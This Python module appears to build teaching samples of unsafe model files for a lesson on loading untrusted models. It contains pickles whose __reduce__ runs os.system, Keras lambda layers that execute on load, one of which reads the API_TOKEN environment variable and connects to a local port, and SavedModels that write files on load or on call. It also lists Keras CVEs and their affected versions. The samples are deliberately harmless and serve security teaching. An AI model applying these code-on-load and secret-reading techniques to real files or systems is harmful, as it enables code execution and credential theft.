"""Files as a stranger may send them, for the exercises of lesson 10: what may run in them is harmless.

What runs writes a small text into the folder in which the file is loaded; `curious` also knocks at a port of
this machine where nobody listens. Making some of them runs them too, so that happens in a folder of its own.
"""

import collections.abc
import contextlib
import os
import pathlib
import pickle
import shutil
import tempfile
import zipfile

from helpers import figures, models
import keras
import tensorflow

# Whether something ran: the harmless marker file that the files of lesson 10 leave, noted and removed.


MARKER = pathlib.Path("was_here.txt")  # in the folder in which the code runs
_RUNS = ["runs when loaded", "runs when called"]
ROWS = ["refused", *_RUNS]
_notes: dict[str, dict[str, bool]] = {}


def note(what: str, when: str) -> None:
    """Print and note whether the marker is there, as in note("pickle", "runs when loaded"), and remove it."""
    there = MARKER.exists()
    MARKER.unlink(missing_ok=True)
    add(what, when, there)
    print(f"{what}, {when}: {there}")


def add(what: str, when: str, holds: bool) -> None:
    """Note a finding without printing it."""
    _notes.setdefault(what, {})[when] = holds


def table() -> dict[str, dict[str, bool]]:
    """All findings of this process, in the order of their first note."""
    return {what: dict(found) for what, found in _notes.items()}


def draw(columns: collections.abc.Mapping[str, str]) -> None:
    """Draw what is noted under each name as yes, no, or a dash for what was not tried.

    Raises:
        KeyError: nothing was noted under a name.
    """
    found = {heading: _findings(_notes[what]) for heading, what in columns.items()}
    said = [f"{' '.join(heading.split())}: {_said(noted)}" for heading, noted in found.items()]
    figures.marks(found, ROWS, alt=f"What is noted of each file. {'; '.join(said)}.", dangers=_RUNS)


def _findings(noted: collections.abc.Mapping[str, bool]) -> dict[str, bool | None]:
    """A value for each row, None for what was not tried. What ran was not refused."""
    known = {"refused": False} if any(noted.get(row) for row in _RUNS) else {}
    return dict.fromkeys(ROWS) | known | {row: noted[row] for row in ROWS if row in noted}


def _said(noted: collections.abc.Mapping[str, bool | None]) -> str:
    holds = [row for row in ROWS if noted[row]] or ["nothing"]
    open_ones = [row for row in ROWS if noted[row] is None]
    return ", ".join(holds) + (f" (not tried: {', '.join(open_ones)})" if open_ones else "")


FOUND = "found.txt"
_PIXELS = tensorflow.TensorSpec([None, 64])


def plain(path: str) -> None:
    """A `.keras` with Keras's own layers: nothing runs but them."""
    with _made(path) as place:
        models.sequential().save(place)


def bytecode(path: str) -> None:
    """A `.keras` with a lambda: load_model refuses it by default."""
    with _made(path) as place:
        # Its code stands alone: a lambda in a file brings no module along.
        layer = keras.layers.Lambda(lambda pixels: (open("was_here.txt", "w").close(), pixels)[1])
        keras.Sequential([keras.Input((64,)), layer]).save(place)


def edited(path: str) -> None:
    """A `.keras` with a class of yours, in which a stranger changed one argument. Making it runs nothing."""

    @keras.saving.register_keras_serializable(package="gifts")
    class Diary(keras.layers.Layer):
        def __init__(self, log: str = "diary.txt", **options: object) -> None:
            super().__init__(**options)
            self.log = log

        def call(self, pixels: keras.KerasTensor) -> keras.KerasTensor:
            return pixels

        def get_config(self) -> dict:
            return super().get_config() | {"log": self.log}

    with _made(path) as place:
        keras.Sequential([keras.Input((64,)), Diary()]).save("yours.keras")
        with zipfile.ZipFile("yours.keras") as yours, zipfile.ZipFile(place, "w") as theirs:
            for name in yours.namelist():
                theirs.writestr(name, yours.read(name).replace(b"diary.txt", b"thesis.txt"))


def touch_pickle(path: str) -> None:
    """A pickle that touches the marker when it is opened."""
    pathlib.Path(path).write_bytes(pickle.dumps(_Calling(pathlib.Path.touch, MARKER)))


def shell_pickle(path: str) -> None:
    """A pickle that has the shell print a word when it is opened."""
    pathlib.Path(path).write_bytes(pickle.dumps(_Calling(os.system, "echo opened")))


class _Calling:
    """Something whose pickle says: call this function."""

    def __init__(self, function: collections.abc.Callable, argument: object) -> None:
        self._call = function, (argument,)

    def __reduce__(self) -> tuple[collections.abc.Callable, tuple]:
        return self._call


def curious(path: str) -> None:
    """A `.keras` whose lambda writes what it finds of API_TOKEN into FOUND, and then wants a connection."""
    with _made(path) as place:
        layer = keras.layers.Lambda(
            lambda pixels: (
                __import__("pathlib")
                .Path("found.txt")
                .write_text(__import__("os").environ.get("API_TOKEN", "nothing")),
                __import__("socket").socket().connect_ex(("127.0.0.1", 9)),
                pixels,
            )[2]
        )
        keras.Sequential([keras.Input((64,)), layer]).save(place)


def on_call(path: str) -> None:
    """A SavedModel that writes when it is called with a row that is not empty."""
    module = tensorflow.Module()

    @tensorflow.function(input_signature=[_PIXELS])
    def serve(pixels: tensorflow.Tensor) -> tensorflow.Tensor:
        tensorflow.cond(tensorflow.reduce_sum(pixels) > 0, _write, tensorflow.no_op)
        return pixels

    module.serve = serve
    with _made(path) as place:
        tensorflow.saved_model.save(module, place)


def on_load(path: str) -> None:
    """A SavedModel that writes when it is loaded."""
    module = _answering()
    module.start = _Start()
    with _made(path) as place:
        tensorflow.saved_model.save(module, place)


def harmless(path: str, scale: float = 2.0) -> None:
    """A SavedModel that multiplies by a number and does nothing else."""
    with _made(path) as place:
        tensorflow.saved_model.save(_answering(scale), place)


class _Start(tensorflow.saved_model.experimental.TrackableResource):
    """A resource that writes when it is made ready, as others read their vocabulary."""

    def _create_resource(self) -> tensorflow.Tensor:
        return tensorflow.raw_ops.VarHandleOp(dtype=tensorflow.float32, shape=[])

    def _initialize(self) -> None:
        _write()


def _answering(scale: float = 1.0) -> tensorflow.Module:
    """A module with a weight and an endpoint, so that each of its files has something in it."""
    module = tensorflow.Module()
    module.scale = tensorflow.Variable(scale)
    module.serve = tensorflow.function(lambda pixels: pixels * module.scale, input_signature=[_PIXELS])
    return module


def _write() -> tensorflow.Operation:
    return tensorflow.io.write_file(str(MARKER), "A model wrote this.")


@contextlib.contextmanager
def _made(path: str) -> collections.abc.Iterator[str]:
    """A name to save under in an empty folder; what was saved comes to `path`, what ran leaves no trace."""
    target = pathlib.Path(path).resolve()
    with tempfile.TemporaryDirectory() as folder:
        with contextlib.chdir(folder):
            yield target.name
        if target.is_dir():
            shutil.rmtree(target)
        shutil.move(pathlib.Path(folder, target.name), target)


# Security advisories on loading a Keras model, and the versions each names as affected.
#
# Collected in November 2026 from the advisories of the Keras project and the CVE records. The list only
# grows: https://github.com/keras-team/keras/security/advisories has the present one. Nothing here says how
# any of them is used.


# In the notation of Python packages, as `packaging.specifiers` reads it.
AFFECTED = {
    "CVE-2024-3660": "<2.13",
    "CVE-2025-1550": ">=3.0,<3.9",
    "CVE-2025-8747": ">=3.0,<3.11",
    "CVE-2025-9905": ">=3.0,<3.11.3",
    "CVE-2025-9906": "<3.11",
    "CVE-2025-12058": "<3.12",
    "CVE-2025-49655": ">=3.11,<3.11.3",
    "CVE-2026-0897": ">=3.0,<3.13.1",
    "CVE-2026-1462": "<3.13.2",
    "CVE-2026-1669": ">=3.0,<3.13.2",
    "CVE-2026-12479": "==3.14.0",
    "CVE-2026-12480": "<3.14",
    "CVE-2026-12481": "==3.14.0",
}
